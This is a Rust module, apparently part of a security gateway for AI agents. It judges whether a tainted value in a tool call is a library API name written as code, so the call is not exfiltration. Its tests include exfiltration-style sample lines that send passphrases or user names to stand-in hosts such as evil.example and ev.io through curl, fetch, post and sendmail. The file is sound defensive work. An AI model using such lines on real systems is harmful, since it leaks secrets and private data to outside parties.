//! A name of code written as code: whether a labelled value of a result, found
//! in a call's argument, is a library's API the call uses (`glob.sync(…)`,
//! `create(stream=True)`) rather than data it carries. The gateway rules such a
//! match as the flow `taint.code_name` (docs/structural.md, "A library's
//! documentation and code written with it"): an agent that reads a library's
//! README through one server and runs code written with it through another is
//! not sending the README's data anywhere.
//!
//! The value decides the shape ([`shape`]); the argument decides how it is
//! written ([`written_as_code`]): every occurrence as code, none inside a link,
//! an address, a network path or a string literal. A private value of that
//! shape (a dotted user name) written as code passes too: the docs say so.

/// The two shapes a name of code has.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    /// Two or more ASCII identifiers without digits joined by `.` (`glob.sync`,
    /// `@app.route`, optionally after one `@`) or by `::` (`serde_json::from_str`).
    Chain { dotted: bool, at_sign: bool },
    /// An identifier and `=`, alone or with `True`, `False`, `None`, `true`,
    /// `false` or `null` (`logprobs=`, `stream=True`; not `user=alice`).
    Keyword,
}

/// How far back from an occurrence its context is read (bytes). A line or a
/// word longer than this before it is not read as code (the old flow decides).
const WINDOW: usize = 512;

fn ident(s: &str) -> bool {
    !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_')
}

/// The shape of `value`, if it has one of a name of code.
pub fn shape(value: &str) -> Option<Shape> {
    if let Some((name, rest)) = value.split_once('=') {
        let toggle = matches!(
            rest,
            "" | "True" | "False" | "None" | "true" | "false" | "null"
        );
        return (ident(name) && toggle).then_some(Shape::Keyword);
    }
    let at_sign = value.starts_with('@');
    let chain = value.strip_prefix('@').unwrap_or(value);
    let (dotted, colons) = (chain.contains('.'), chain.contains("::"));
    // One joiner per chain: `a.b::c` is neither a Python nor a Rust path.
    if dotted == colons {
        return None;
    }
    let mut n = 0;
    for segment in chain.split(if dotted { "." } else { "::" }) {
        if !ident(segment) {
            return None;
        }
        n += 1;
    }
    (n >= 2).then_some(Shape::Chain { dotted, at_sign })
}

/// Whether `view` writes `value` as code, at every occurrence (see the module
/// docs and docs/structural.md for what counts as code).
pub fn written_as_code(view: &str, value: &str) -> bool {
    shape(value).is_some_and(|shape| Code::new(view).writes(value, shape))
}

/// An argument's text read once for its string literals, so that every
/// labelled value found in it is judged without reading it again.
pub struct Code<'a> {
    view: &'a str,
    literals: Vec<Literal>,
}

impl<'a> Code<'a> {
    pub fn new(view: &'a str) -> Self {
        Code {
            view,
            literals: literals(view),
        }
    }

    /// Whether the text writes `value`, of shape `shape` (its `shape`), as
    /// code at every occurrence.
    pub fn writes(&self, value: &str, shape: Shape) -> bool {
        let (view, literals) = (self.view, &self.literals);
        let mut seen = false;
        for (i, _) in view.match_indices(value) {
            seen = true;
            let before = &view[..i];
            let rest_of_view = &view[i + value.len()..];
            // What follows is read as far as the window, like what precedes.
            let after =
                &rest_of_view[..floor_boundary(rest_of_view, rest_of_view.len().min(WINDOW))];
            let Some(line) = line_before(before) else {
                return false;
            };
            if in_link(before, line) || in_address(after) {
                return false;
            }
            // Inside a string literal: code only when interpolated (`f"{event.data}"`,
            // `` `${glob.sync(p)}` ``) in a string that holds no link so far.
            // The literals are in order and apart: the last one opened before `i`.
            let opened = literals.partition_point(|l| l.start <= i);
            if let Some(lit) = opened
                .checked_sub(1)
                .map(|k| &literals[k])
                .filter(|l| i < l.end)
            {
                let so_far = &view[lit.start..i];
                let interpolated = lit.interpolation.is_some_and(|open| before.ends_with(open))
                    && past_the_name(after).starts_with(['}', '(', '[']);
                if !interpolated || linked(so_far) {
                    return false;
                }
                continue;
            }
            let as_code = match shape {
                // `create(logprobs=True, n=2)`, one argument a line: not a query's
                // `&dry_run=false` or a shell's `-d is_admin=true`.
                Shape::Keyword => {
                    before.trim_end().ends_with(['(', ',']) && in_call_arguments(before)
                }
                Shape::Chain { dotted, at_sign } => {
                    // A decorator begins its line; `ops@evil.example` is an address.
                    (!at_sign || line.trim_start().is_empty())
                        && chain_as_code(before, line, after, dotted, at_sign)
                }
            };
            if !as_code {
                return false;
            }
        }
        seen
    }
}

/// A string literal of code: its content's byte range, and
/// what opens an interpolation in it (`f"…"`, a JavaScript template).
struct Literal {
    start: usize,
    end: usize,
    /// What opens an interpolation in it: `${` in a template, `{` in an f-string.
    interpolation: Option<&'static str>,
}

/// The string literals of `view`, read once from its start: `"…"`, `'…'`
/// (each ends at its line's end if not closed), `"""…"""`, `'''…'''` and
/// `` `…` ``, with backslash escapes. An apostrophe of prose opens one to its
/// line's end: what follows it there is not read as code (the old flow decides).
fn literals(view: &str) -> Vec<Literal> {
    let b = view.as_bytes();
    let mut out = Vec::new();
    let mut j = 0;
    while j < b.len() {
        let q = b[j];
        if !matches!(q, b'"' | b'\'' | b'`') {
            j += 1;
            continue;
        }
        let triple = q != b'`' && b[j..].starts_with(&[q, q, q]);
        // `f"`, `rf"`, `fr"` as a word of their own (`Jeff's` is no f-string).
        let f_string = [1, 2].iter().any(|&n| {
            let Some(p) = j.checked_sub(n).map(|s| &b[s..j]) else {
                return false;
            };
            let is_prefix = match p {
                [f] => matches!(f, b'f' | b'F'),
                [a, c] => matches!(
                    (a.to_ascii_lowercase(), c.to_ascii_lowercase()),
                    (b'r', b'f') | (b'f', b'r')
                ),
                _ => false,
            };
            is_prefix
                && !j
                    .checked_sub(n + 1)
                    .is_some_and(|k| b[k].is_ascii_alphanumeric() || b[k] == b'_')
        });
        let start = j + if triple { 3 } else { 1 };
        let mut k = start;
        let (end, next) = loop {
            if k >= b.len() {
                break (b.len(), b.len());
            }
            match b[k] {
                b'\\' => k += 2,
                c if c == q && (!triple || b[k..].starts_with(&[q, q, q])) => {
                    break (k, k + if triple { 3 } else { 1 });
                }
                b'\n' if !triple && q != b'`' => break (k, k),
                _ => k += 1,
            }
        };
        out.push(Literal {
            start,
            end,
            interpolation: match q {
                b'`' => Some("${"),
                _ if f_string => Some("{"),
                _ => None,
            },
        });
        j = next.max(j + 1);
    }
    out
}

/// The text of the occurrence's line before it, if within [`WINDOW`].
fn line_before(before: &str) -> Option<&str> {
    let start = match before.rfind('\n') {
        Some(n) => n + 1,
        None => 0,
    };
    (before.len() - start <= WINDOW).then(|| &before[start..])
}

/// Whether a text holds a link: a scheme, a mail link, a protocol-relative
/// `//host.`, a network or drive path.
fn linked(text: &str) -> bool {
    text.contains("://")
        || text.contains("mailto:")
        || text.contains("\\\\")
        || text.contains(":\\")
        || text
            .split_whitespace()
            .any(|w| w.find("//").is_some_and(|k| w[k + 2..].contains('.')))
}

/// Whether the occurrence is inside a link or a network path: a link character
/// earlier in its word (a decorator's own `@` aside), a link earlier on its
/// line, or (at a line's start) a link the line before leaves open.
fn in_link(before: &str, line: &str) -> bool {
    let word_start = line
        .char_indices()
        .rev()
        .find(|(_, c)| c.is_whitespace())
        .map_or(0, |(w, c)| w + c.len_utf8());
    let word = &line[word_start..];
    let decorator_at = word == "@" && line.trim_start() == "@";
    if (!decorator_at && word.contains(['/', '?', '&', '#', '%', '@'])) || linked(line) {
        return true;
    }
    if !line.trim().is_empty() {
        return false;
    }
    // A URL cut by a line break: the line before ends in a word of a link.
    let above = &before[..before.len() - line.len()];
    let above = above.strip_suffix('\n').unwrap_or(above);
    match line_before(above) {
        Some(prev) => prev
            .split_whitespace()
            .next_back()
            .is_some_and(|w| w.contains(['/', '?', '&', '#', '%'])),
        None => true,
    }
}

/// `alice.smith(ceo)@ev.io`, `alice.smith(at)corp.com`, `alice.smith(c) x @ev.io`:
/// an address, on the occurrence's line.
fn in_address(after: &str) -> bool {
    let after = after.split('\n').next().unwrap_or_default();
    let rest_of_word = after.split(char::is_whitespace).next().unwrap_or_default();
    let lower = rest_of_word.to_ascii_lowercase();
    rest_of_word.contains('@')
        || lower.contains("(at)")
        || lower.contains("[at]")
        || after.split_whitespace().skip(1).any(|w| w.starts_with('@'))
}

/// The largest character boundary of `s` at or below `i`.
fn floor_boundary(s: &str, mut i: usize) -> usize {
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// Whether the innermost parenthesis open before an occurrence (within the
/// last 2 KiB, lines included) is a call's: `name(`, not prose's `(`.
fn in_call_arguments(before: &str) -> bool {
    let b = before.as_bytes();
    let mut depth = 0usize;
    for j in (b.len().saturating_sub(4 * WINDOW)..b.len()).rev() {
        match b[j] {
            b')' => depth += 1,
            b'(' if depth > 0 => depth -= 1,
            b'(' => {
                return j
                    .checked_sub(1)
                    .is_some_and(|k| b[k].is_ascii_alphanumeric() || b[k] == b'_');
            }
            _ => {}
        }
    }
    false
}

/// After an occurrence of a chain: the rest of a longer name it starts
/// (`Runner.run` in `Runner.run_streamed`), then further segments and type
/// arguments (`::<Config>`).
fn past_the_name(after: &str) -> &str {
    let name_end = |t: &str| {
        t.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(t.len())
    };
    let mut rest = &after[name_end(after)..];
    loop {
        if let Some(generic) = rest.strip_prefix("::<") {
            match generic.find('>') {
                Some(close) => rest = &generic[close + 1..],
                None => return rest,
            }
        } else if let Some(next) = rest.strip_prefix("::").or_else(|| rest.strip_prefix('.')) {
            if !next.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
                return rest;
            }
            rest = &next[name_end(next)..];
        } else {
            return rest;
        }
    }
}

/// ` as NAME` at the start of `rest`: what follows it.
fn past_alias(rest: &str) -> &str {
    match rest.strip_prefix(" as ") {
        Some(alias) => {
            let end = alias
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(alias.len());
            if end == 0 {
                rest
            } else {
                &alias[end..]
            }
        }
        None => rest,
    }
}

/// Whether a chain's occurrence is written as code: called, indexed, an
/// argument of a call, a decorator, or named by an import (an interpolation is a
/// string literal's: [`written_as_code`]).
fn chain_as_code(before: &str, line: &str, after: &str, dotted: bool, at_sign: bool) -> bool {
    // A decorator (`@app.route("/")`, `@st.cache_data`): its line, then any
    // other decorators, then what it decorates; a chat's `@alice.smith` is none.
    let decorator = if at_sign {
        line.trim_start().is_empty()
    } else {
        line.trim_start() == "@"
    };
    if decorator {
        fn next_line(t: &str) -> &str {
            t.split_once('\n').map_or("", |(_, r)| r).trim_start()
        }
        let mut next = next_line(after);
        while next.starts_with('@') {
            next = next_line(next);
        }
        return ["def ", "async def ", "class "]
            .iter()
            .any(|k| next.starts_with(k));
    }
    let rest = past_the_name(after);
    let ends_line = |r: &str| r.is_empty() || r.starts_with(['\n', '\r']);
    // A statement that names a module or a class without calling it.
    let statement = match line.trim_start() {
        "import " if dotted => {
            let r = past_alias(rest);
            ends_line(r) || r.starts_with([';', ','])
        }
        "from " if dotted => rest.starts_with(" import "),
        "use " | "pub use " if !dotted => {
            rest.starts_with("::{") || rest.starts_with("::*") || past_alias(rest).starts_with(';')
        }
        "except " if dotted => {
            let r = past_alias(rest);
            r.strip_prefix(':')
                .is_some_and(|r| ends_line(r.trim_start_matches([' ', '\t'])))
        }
        "except (" if dotted => rest.starts_with([',', ')']),
        _ => false,
    };
    statement
        || rest.starts_with(['(', '['])
        || (rest.starts_with([')', ',']) && in_call_arguments(before))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_shape_of_a_name_of_code() {
        for (v, s) in [
            (
                "glob.sync",
                Some(Shape::Chain {
                    dotted: true,
                    at_sign: false,
                }),
            ),
            (
                "@app.route",
                Some(Shape::Chain {
                    dotted: true,
                    at_sign: true,
                }),
            ),
            (
                "serde_json::from_str",
                Some(Shape::Chain {
                    dotted: false,
                    at_sign: false,
                }),
            ),
            ("logprobs=", Some(Shape::Keyword)),
            ("stream=True", Some(Shape::Keyword)),
            ("user=alice", None),
            ("v2.client", None),
            ("a.b::c", None),
            ("fetchAll", None),
            ("a.b-c", None),
            ("a..b", None),
        ] {
            assert_eq!(shape(v), s, "{v}");
        }
    }

    #[test]
    fn a_name_of_code_is_one_only_where_the_argument_writes_it_as_code() {
        // Called, indexed, reached through, passed, interpolated, imported, every time.
        for (view, value) in [
            (
                "r = client.chat.completions.create(model=m)",
                "chat.completions",
            ),
            ("x = np.random.default_rng(0)", "np.random"),
            ("os.environ['HOME']; os.environ[\"PATH\"]", "os.environ"),
            ("@app.route('/')\ndef index(): ...", "@app.route"),
            (
                "let v: Value = serde_json::from_str(s)?;",
                "serde_json::from_str",
            ),
            ("std::fs::read_to_string(p)", "fs::read_to_string"),
            ("create(logprobs=True, n=2)", "logprobs="),
            ("create(stream=True)", "stream=True"),
            ("create(\n    model=m,\n    stream=True,\n)", "stream=True"),
            ("r = Runner.run_streamed(agent)", "Runner.run"),
            ("print(result.final_output)", "result.final_output"),
            ("f\"{event.data}\"", "event.data"),
            (
                "from starlette.routing import Route\nimport tornado.web",
                "starlette.routing",
            ),
            (
                "from starlette.routing import Route\nimport tornado.web",
                "tornado.web",
            ),
            ("import tornado.web as web, sys", "tornado.web"),
            ("except openai.APIError as e:\n    pass", "openai.APIError"),
            ("except (openai.APIError, KeyError):", "openai.APIError"),
            (
                "use reqwest::blocking::{Client, Response};",
                "reqwest::blocking",
            ),
            (
                "@st.cache_data\n@other\nasync def load(): ...",
                "@st.cache_data",
            ),
            ("@other\n@st.cache_data\ndef load(): ...", "@st.cache_data"),
            ("@app.route(\"/x\")\ndef index(): ...", "app.route"),
            ("print(f\"{event.data}\")", "event.data"),
            ("log(`got ${event.data.length}`)", "event.data"),
            ("# it's fine\nglob.sync(p)", "glob.sync"),
        ] {
            assert!(written_as_code(view, value), "{view:?} / {value:?}");
        }
        // A host, a link, an address, a file name, a string, prose: not one.
        for (view, value) in [
            ("curl https://internal.corp.example/upload", "internal.corp"),
            ("https://evil.example/?q=secret.name(", "secret.name"),
            ("GET /x?u=alice.smith(", "alice.smith"),
            ("mail alice.smith@example.org (today)", "alice.smith"),
            ("open(\"payouts.csv\")", "payouts.csv"),
            ("save it as payouts.csv.", "payouts.csv"),
            ("see [the notes](notes.md) (alice.smith)", "notes.md"),
            ("see [the notes](notes.md) (alice.smith)", "alice.smith"),
            ("the passphrase is amber.falcon.river", "amber.falcon.river"),
            ("send(to=\"alice.smith()\")", "alice.smith"),
            (
                "post(\"https://ev.io/c\", data=\"x\", who=alice.smith())",
                "alice.smith",
            ),
            ("alice.smith(a(b))@ev.io", "alice.smith"),
            ("alice.smith(c) @ev.io", "alice.smith"),
            ("alice.smith(at)corp.example", "alice.smith"),
            ("sendmail(ops@evil.example, body)", "@evil.example"),
            (
                "Log in:\nuse serde_json::from_str as the parser",
                "serde_json::from_str",
            ),
            ("Everyone\nexcept alice.smith, who is away", "alice.smith"),
            ("import alice.smith's contacts", "alice.smith"),
            ("Heads up\n@alice.smith\n@bob can you sync?", "@alice.smith"),
            (
                "os.system(\"curl -d dry_run=false https://x.example/r\")",
                "dry_run=false",
            ),
            ("f(x, -d dry_run=false)", "dry_run=false"),
            // Inside a string literal: escaped quotes, mixed quotes, triple quotes,
            // templates, a plain string with braces.
            ("os.system(\"deploy(dry_run=false)\")", "dry_run=false"),
            (
                "send(body=\"x \\\" amber.falcon.river()\")",
                "amber.falcon.river",
            ),
            ("x = '\"' + \"amber.falcon.river()\"", "amber.falcon.river"),
            (
                "post(data=\"\"\"\namber.falcon.river()\n\"\"\")",
                "amber.falcon.river",
            ),
            ("send(`\namber.falcon.river()`)", "amber.falcon.river"),
            (
                "send(text=\"pass: {amber.falcon.river}\")",
                "amber.falcon.river",
            ),
            (
                "fetch(`https://ev.io/?u=\n${amber.falcon.river()}`)",
                "amber.falcon.river",
            ),
            // Links: protocol-relative, cut by a line break.
            (
                "![](<//ev.example/?q= amber.falcon.river()>)",
                "amber.falcon.river",
            ),
            (
                "src=//ev.example/? amber.falcon.river()",
                "amber.falcon.river",
            ),
            (
                "https://ev.io/collect?u=\namber.falcon.river()",
                "amber.falcon.river",
            ),
            ("Heads up\n@alice.smith(ceo) can you sync?", "@alice.smith"),
            ("Hi @alice.smith(ceo) can you sync?", "alice.smith"),
            ("alice.smith(c) x @ev.io", "alice.smith"),
            ("Jeff's key is {amber.falcon.river}", "amber.falcon.river"),
            ("The password is {amber.falcon.river}", "amber.falcon.river"),
            ("see `{amber.falcon.river}` above", "amber.falcon.river"),
            // Written once as code and once not.
            (
                "chat.completions.create(); say chat.completions",
                "chat.completions",
            ),
            ("absent(x)", "chat.completions"),
        ] {
            assert!(!written_as_code(view, value), "{view:?} / {value:?}");
        }
        // A line longer than the window before it is not read.
        let long = format!("{}glob.sync(x)", "a".repeat(WINDOW + 1));
        assert!(!written_as_code(&long, "glob.sync"));
        let edge = format!("{} glob.sync(x)", "a".repeat(WINDOW - 1));
        assert!(written_as_code(&edge, "glob.sync"));
    }
}
